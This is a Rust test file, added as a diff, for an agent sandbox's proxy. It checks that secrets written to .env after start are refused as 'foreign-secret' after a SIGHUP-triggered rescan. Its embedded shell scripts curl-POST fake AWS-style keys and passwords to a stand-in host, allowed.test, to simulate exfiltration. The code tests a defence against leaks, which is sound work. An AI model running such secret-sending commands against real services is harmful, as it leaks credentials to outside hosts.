@@ -1,0 +1,302 @@
+//! The workspace-secrets rescan (issue 21): a secret file the agent writes after start is
+//! not read at start (the gap: such a secret passes to any allowed host unless a detector
+//! knows its format); SIGHUP to PID 1 reads the workspace again as the agent, and from the
+//! proxy's reload on the value is refused `foreign-secret`. Nothing found earlier is lost,
+//! a file the rescan cannot use is one line, and SIGHUP no longer reaches the agent.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use crate::common::*;
+use airlock_tests::World;
+use std::io::BufRead;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::sync::mpsc;
+use std::time::{Duration, Instant};
+
+/// In `.env` at start.
+const START: &str = "start-Zq7vK2pL9xW4mN8rT3";
+/// An AWS secret access key's shape (40 characters), written by the agent after start.
+/// Sent bare, no detector knows it (the `aws-secret-key` format needs its name beside it):
+/// only the workspace needle catches it.
+const LATER: &str = "wJz9Xk2Qv7Lp4Rt8Ny3Hb6Mc1Df5Gs0Ae2Ku7Wo9";
+
+/// PID 1 of the sandbox's pid namespace: the entrypoint.
+fn pid1(world: &World) -> u32 {
+    let pids = sandbox_pids(world, |c| c == "airlock-entrypo");
+    pids.into_iter()
+        .find(|pid| {
+            std::fs::read_to_string(format!("/proc/{pid}/status")).is_ok_and(|s| {
+                s.lines()
+                    .find_map(|l| l.strip_prefix("NSpid:"))
+                    .and_then(|l| l.split_whitespace().last())
+                    == Some("1")
+            })
+        })
+        .expect("the entrypoint is PID 1 of the sandbox")
+}
+
+/// The entrypoint's stderr, line by line, as it comes (PID 1's and the proxy's lines).
+struct Lines {
+    rx: mpsc::Receiver<String>,
+    seen: Vec<String>,
+}
+
+impl Lines {
+    fn of(child: &mut std::process::Child) -> Lines {
+        let stderr = child.stderr.take().unwrap();
+        let (tx, rx) = mpsc::channel();
+        std::thread::spawn(move || {
+            for line in std::io::BufReader::new(stderr).lines() {
+                let Ok(line) = line else { break };
+                if tx.send(line).is_err() {
+                    break;
+                }
+            }
+        });
+        Lines {
+            rx,
+            seen: Vec::new(),
+        }
+    }
+
+    /// Wait (up to 30 s) for a line containing `what`; returns it.
+    fn wait_for(&mut self, what: &str) -> String {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        loop {
+            let left = deadline.saturating_duration_since(Instant::now());
+            match self.rx.recv_timeout(left) {
+                Ok(line) => {
+                    self.seen.push(line.clone());
+                    if line.contains(what) {
+                        return line;
+                    }
+                }
+                Err(_) => panic!("no line with {what:?}; stderr so far:\n{}", self.all()),
+            }
+        }
+    }
+
+    /// Everything read, and the rest once the entrypoint has exited.
+    fn rest(&mut self) -> String {
+        while let Ok(line) = self.rx.recv_timeout(Duration::from_secs(10)) {
+            self.seen.push(line);
+        }
+        self.all()
+    }
+
+    fn all(&self) -> String {
+        self.seen.join("\n")
+    }
+}
+
+fn own(world: &World, path: &Path) {
+    std::os::unix::fs::chown(path, Some(world.users().agent), Some(world.users().agent)).unwrap();
+}
+
+fn field<'a>(text: &'a str, name: &str) -> &'a str {
+    text.lines()
+        .find_map(|l| l.strip_prefix(&format!("{name}=")))
+        .unwrap_or_else(|| panic!("no {name}= in:\n{text}"))
+}
+
+/// The agent overwrites `.env` after start with a new key (the start value gone from the
+/// file). Before the rescan the new value reaches the upstream (the gap the rescan closes);
+/// after SIGHUP to PID 1 and the proxy's reload, the same POST is refused `foreign-secret`
+/// and nothing with the value reaches the upstream; the start value, though no longer in
+/// any file, is still refused.
+#[test]
+fn a_secret_written_after_start_is_refused_after_a_rescan_and_none_is_lost() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY_INSPECTED);
+    let env = airlock.workdir.join(".env");
+    std::fs::write(&env, format!("DB_PASSWORD={START}\n")).unwrap();
+    own(&world, &env);
+    let w = airlock.workdir.display();
+    let script = format!(
+        "c() {{ curl -sS --max-time 10 -o /dev/null -w '%{{http_code}}:%header{{x-airlock-error}}' \"$@\"; }}\n\
+         printf 'AWS_SECRET_ACCESS_KEY={LATER}\\n' > {w}/.env\n\
+         echo before=$(c -X POST --data-binary 'v={LATER}' https://allowed.test/before)\n\
+         touch {w}/before.done\n\
+         while [ ! -e {w}/go ]; do sleep 0.05; done\n\
+         echo after=$(c -X POST --data-binary 'v={LATER}' https://allowed.test/after)\n\
+         echo start=$(c -X POST --data-binary 'v={START}' https://allowed.test/start)\n"
+    );
+    let mut child = airlock.spawn(&world, &script);
+    let mut lines = Lines::of(&mut child);
+    airlock.wait_for_agent_file("before.done");
+    signal(pid1(&world), "-HUP");
+    let reloaded = lines.wait_for("workspace secrets reloaded");
+    assert!(reloaded.contains("(1 new, 0 gone)"), "{reloaded}");
+    std::fs::write(airlock.workdir.join("go"), "").unwrap();
+    let out = child.wait_with_output().unwrap();
+    let errs = lines.rest();
+    assert!(
+        out.status.success(),
+        "{:?}\n{}\n{errs}",
+        out.status,
+        stdout(&out)
+    );
+    let text = stdout(&out);
+    assert_eq!(
+        field(&text, "before"),
+        "200:",
+        "the gap: not read before the rescan"
+    );
+    assert_eq!(field(&text, "after"), "403:foreign-secret", "{text}");
+    assert_eq!(field(&text, "start"), "403:foreign-secret", "{text}");
+
+    // Upstream: the one request before the rescan, nothing after it.
+    let log = world.upstream_log().unwrap();
+    let reached = |path: &str| {
+        log.iter()
+            .filter(|l| l["kind"] == "http" && l["path"] == path)
+            .count()
+    };
+    assert_eq!(reached("/before"), 1, "{log:?}");
+    assert_eq!(reached("/after") + reached("/start"), 0, "{log:?}");
+    let after: Vec<_> = log
+        .iter()
+        .filter(|l| l["path"] != "/before" && l.to_string().contains(LATER))
+        .collect();
+    assert!(
+        after.is_empty(),
+        "the value reached the upstream: {after:?}"
+    );
+
+    // Audit: both refusals name the workspace needle; no value anywhere in it.
+    let audit = airlock.audit();
+    let refused: Vec<_> = audit
+        .iter()
+        .filter(|l| l["reason"] == "foreign-secret")
+        .collect();
+    assert_eq!(refused.len(), 2, "{audit:?}");
+    assert!(
+        refused.iter().all(|l| l["rule"]
+            .as_str()
+            .is_some_and(|r| r.contains("workspace:.env"))),
+        "{refused:?}"
+    );
+    let audit_text = serde_json::to_string(&audit).unwrap();
+    assert!(!audit_text.contains(LATER) && !audit_text.contains(START));
+
+    // Report: the new name, when, the counts; never a value.
+    let report = std::fs::read_to_string(airlock.run_dir.join("workspace-secrets")).unwrap();
+    assert!(report.contains(".env: AWS_SECRET_ACCESS_KEY"), "{report}");
+    assert!(
+        report.contains("rescanned at") && report.contains("1 new needles, 2 in all"),
+        "{report}"
+    );
+    assert!(
+        errs.contains("airlock: workspace secrets rescanned at"),
+        "{errs}"
+    );
+    for text in [&report, &errs, &text] {
+        assert!(
+            !text.contains(LATER) && !text.contains(START),
+            "a value shown:\n{text}"
+        );
+    }
+}
+
+/// The agent makes its secret files unusable before the rescan: `.env` over the size limit
+/// (a new secret inside it), a binary `.env.bin`, an `.env.local` it cannot read itself.
+/// The rescan says one line per file and why, the start value stays refused.
+#[test]
+fn a_rescan_of_unusable_files_says_so_and_keeps_the_old_needles() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY_INSPECTED);
+    let env = airlock.workdir.join(".env");
+    std::fs::write(&env, format!("DB_PASSWORD={START}\n")).unwrap();
+    own(&world, &env);
+    let w = airlock.workdir.display();
+    let script = format!(
+        "c() {{ curl -sS --max-time 10 -o /dev/null -w '%{{http_code}}:%header{{x-airlock-error}}' \"$@\"; }}\n\
+         {{ printf 'AWS_SECRET_ACCESS_KEY={LATER}\\n'; head -c 70000 /dev/zero | tr '\\0' '#'; }} > {w}/.env\n\
+         printf 'TOKEN=a\\0b\\n' > {w}/.env.bin\n\
+         printf 'API_TOKEN=Kq8v2Xw9Lm3Np7Rt\\n' > {w}/.env.local; chmod 000 {w}/.env.local\n\
+         touch {w}/ready\n\
+         while [ ! -e {w}/go ]; do sleep 0.05; done\n\
+         echo start=$(c -X POST --data-binary 'v={START}' https://allowed.test/start)\n"
+    );
+    let mut child = airlock.spawn(&world, &script);
+    let mut lines = Lines::of(&mut child);
+    airlock.wait_for_agent_file("ready");
+    signal(pid1(&world), "-HUP");
+    let reloaded = lines.wait_for("workspace secrets reloaded");
+    assert!(
+        reloaded.contains("1 needles") && reloaded.contains("(0 new, 0 gone)"),
+        "{reloaded}"
+    );
+    std::fs::write(airlock.workdir.join("go"), "").unwrap();
+    let out = child.wait_with_output().unwrap();
+    let errs = lines.rest();
+    assert!(
+        out.status.success(),
+        "{:?}\n{}\n{errs}",
+        out.status,
+        stdout(&out)
+    );
+    assert_eq!(field(&stdout(&out), "start"), "403:foreign-secret");
+    for (file, why) in [
+        (".env", "over the 64 KiB limit"),
+        (".env.bin", "binary"),
+        (".env.local", "Permission denied"),
+    ] {
+        let line = errs
+            .lines()
+            .find(|l| l.contains(&format!("workspace secret file {file} not read")))
+            .unwrap_or_else(|| panic!("no line for {file}:\n{errs}"));
+        assert!(line.contains(why), "{line}");
+    }
+    assert!(errs.contains("0 new needles, 1 in all"), "{errs}");
+    let report = std::fs::read_to_string(airlock.run_dir.join("workspace-secrets")).unwrap();
+    assert!(report.contains(".env.bin not read: binary"), "{report}");
+    assert!(!errs.contains(LATER) && !errs.contains(START) && !errs.contains("Kq8v2Xw9"));
+    let log = world.upstream_log().unwrap();
+    assert!(
+        !log.iter().any(|l| l.to_string().contains(START)),
+        "the start value reached the upstream: {log:?}"
+    );
+    // The agent's unreadable file stays its own business: the scan ran as the agent.
+    let mode = std::fs::metadata(airlock.workdir.join(".env.local"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0);
+}
+
+/// SIGHUP to PID 1 is the rescan, never forwarded: the agent's HUP trap does not fire. A
+/// signal PID 1 forwards (USR1) still reaches the agent.
+#[test]
+fn sighup_no_longer_reaches_the_agent_other_signals_do() {
+    let world = world();
+    let airlock = Airlock::new(&world, POLICY);
+    let w = airlock.workdir.display();
+    let script = format!(
+        "trap 'echo hup > {w}/hup' HUP\n\
+         trap 'echo usr1 > {w}/usr1; exit 0' USR1\n\
+         touch {w}/ready\n\
+         while :; do sleep 0.05; done\n"
+    );
+    let mut child = airlock.spawn(&world, &script);
+    let mut lines = Lines::of(&mut child);
+    airlock.wait_for_agent_file("ready");
+    let pid = pid1(&world);
+    signal(pid, "-HUP");
+    // PID 1 takes its signals one at a time: the rescan's line means HUP was handled
+    // before USR1 is sent.
+    lines.wait_for("airlock: workspace secrets rescanned at");
+    signal(pid, "-USR1");
+    let out = child.wait_with_output().unwrap();
+    let errs = lines.rest();
+    assert!(out.status.success(), "{:?}\n{errs}", out.status);
+    assert!(
+        airlock.workdir.join("usr1").exists(),
+        "USR1 was not forwarded"
+    );
+    assert!(
+        !airlock.workdir.join("hup").exists(),
+        "SIGHUP reached the agent's process group"
+    );
+}
